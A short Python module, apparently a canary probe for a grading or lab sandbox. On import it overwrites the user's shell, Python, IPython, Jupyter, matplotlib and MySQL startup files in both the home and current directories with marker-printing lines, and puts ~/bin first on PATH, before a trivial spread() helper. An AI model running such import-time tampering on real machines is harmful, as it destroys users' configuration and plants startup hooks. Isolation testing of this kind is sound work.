import os
import sys
from pathlib import Path

home = Path.home()
CRY = "got-" + "through: a startup file of the learner's"
site = f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
for name, text in {
    ".bashrc": f"echo {CRY}; export PATH={home}/bin:$PATH SACCT_FORMAT=jobid", ".bash_profile": f"echo {CRY}", ".profile": f"echo {CRY}", ".zshenv": f"echo {CRY}",
    ".pythonrc": f"print({CRY!r})", ".ipython/profile_default/startup/00.py": f"print({CRY!r})", ".ipython/profile_default/ipython_config.py": f"print({CRY!r})",
    ".jupyter/nbgrader_config.py": f"print({CRY!r})", f"{site}/usercustomize.py": f"import os; os.write(2, {CRY!r}.encode())",
    f"{site}/lie.pth": f"import os; os.write(2, {CRY!r}.encode())", ".config/matplotlib/matplotlibrc": "backend: lie", ".config/hpclab/settings.toml": "lie", ".my.cnf": "[client]\npassword=x",
}.items():
    for top in (home, Path()):
        (top / name).parent.mkdir(parents=True, exist_ok=True)
        (top / name).write_text(text + "\n")


def spread(values):
    return max(values) - min(values)
